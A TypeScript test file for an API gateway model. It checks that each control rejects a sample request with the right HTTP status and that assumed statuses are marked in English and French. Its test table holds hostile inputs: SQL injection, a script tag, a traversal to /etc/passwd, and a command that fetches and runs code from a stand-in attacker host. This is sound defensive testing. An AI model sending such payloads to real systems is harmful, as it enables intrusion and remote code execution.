import { readFileSync } from 'node:fs';
import path from 'node:path';
import { po } from 'gettext-parser';
import { expect, it } from 'vitest';
import { steps } from '../kernel/steps';
import type { Conditions } from '../model/conditions';
import type { Request } from '../model/schema';
import type { ControlId } from '../model/vocabulary';
import { authorization, model, platform } from '../platform.fixture';
import { run } from '../run';

const list: Request = { method: 'GET', path: '/companies', headers: authorization };

/** For each control, a request that it rejects, and the status of the response. */
const REJECTED: Readonly<Record<ControlId, readonly [number, Partial<Request>, Conditions?]>> = {
  address: [403, { from: '198.51.100.7' }, { allowedAddresses: ['203.0.113.10'] }],
  rate: [429, {}, { requestsThisMinute: 1000 }],
  'sql-injection': [403, { query: { query: "x' OR 1=1 --" } }],
  'cross-site-scripting': [403, { path: '/companies/<script>' }],
  'path-traversal': [403, { path: '/companies/..%2f..%2fetc%2fpasswd' }],
  'command-injection': [403, { query: { query: '; wget http://evil.example/x | sh' } }],
  https: [403, { scheme: 'http' }],
  'client-certificate': [403, {}, { mutualTls: true }],
  'api-key': [401, { headers: {} }],
  'daily-quota': [429, {}, { requestsToday: 2000, connectedCompanies: 1 }],
  concurrency: [429, {}, { concurrentRequests: 10, connectedCompanies: 1 }],
  route: [404, { path: '/compnies' }],
  method: [405, { method: 'DELETE' }],
};

/** The statuses that the public documentation lists for what the gateway checks. */
const DOCUMENTED: readonly ControlId[] = [
  'api-key',
  'daily-quota',
  'concurrency',
  'route',
  'method',
];

const catalogue = po.parse(
  readFileSync(path.join(import.meta.dirname, '../../../i18n/fr/model.po'), 'utf8'),
);
const french = (text: string) => catalogue.translations['']?.[text]?.msgstr[0] ?? '';

it.each(model.controls)('$id rejects with its status, marked if it is assumed', ({ id }) => {
  const [status, request, conditions = {}] = REJECTED[id];
  const trace = run(platform, { ...list, ...request }, conditions, 1);
  expect(trace.outcome).toMatchObject({ status, rule: id });

  const step = steps(trace).find(({ decision }) => decision?.outcome === 'refuse');
  const sentence = step && model.texts[step.textId].text;
  const isMarked = !DOCUMENTED.includes(id);
  expect(sentence?.includes(`{status} ${model.statusMark}`)).toBe(isMarked);
  expect(french(sentence ?? '').includes(`{status} ${french(model.statusMark)}`)).toBe(isMarked);
});

/** All scenarios, as they are and while each store or source fails. */
const played = model.scenarios.flatMap((scenario) =>
  [undefined, 'client-metabase', 'blob-storage', 'xero-link-service'].map((failing) => ({
    ...scenario,
    conditions: { ...scenario.conditions, ...(failing !== undefined && { failing: [failing] }) },
  })),
);

it('a rejection whose status follows an assumption says so, in both languages', () => {
  const assumptions = model.assumptions.map((each) =>
    each.unit === 'http-status' ? { ...each, default: each.default + 1 } : each,
  );
  const rejections = (assumed: typeof model) =>
    played.flatMap(({ id, request, conditions }) => {
      const trace = run({ ...platform, model: assumed }, request, conditions, 1);
      return steps(trace).flatMap(({ textId, values: { status }, decision }) =>
        decision?.outcome === 'refuse' ? [{ id, textId, status: JSON.stringify(status) }] : [],
      );
    });
  const changed = rejections({ ...model, assumptions });
  const assumed = rejections(model).filter(({ status }, i) => status !== changed[i]?.status);
  const ids = new Set(assumed.map(({ textId }) => textId));
  expect(ids).toContain('link-site-lacks');
  expect(ids).toContain('public-api-lacks');
  for (const id of ids) {
    const sentence = model.texts[id].text;
    expect(sentence).toContain(`{status} ${model.statusMark}`);
    expect(french(sentence)).toContain(`{status} ${french(model.statusMark)}`);
  }
});
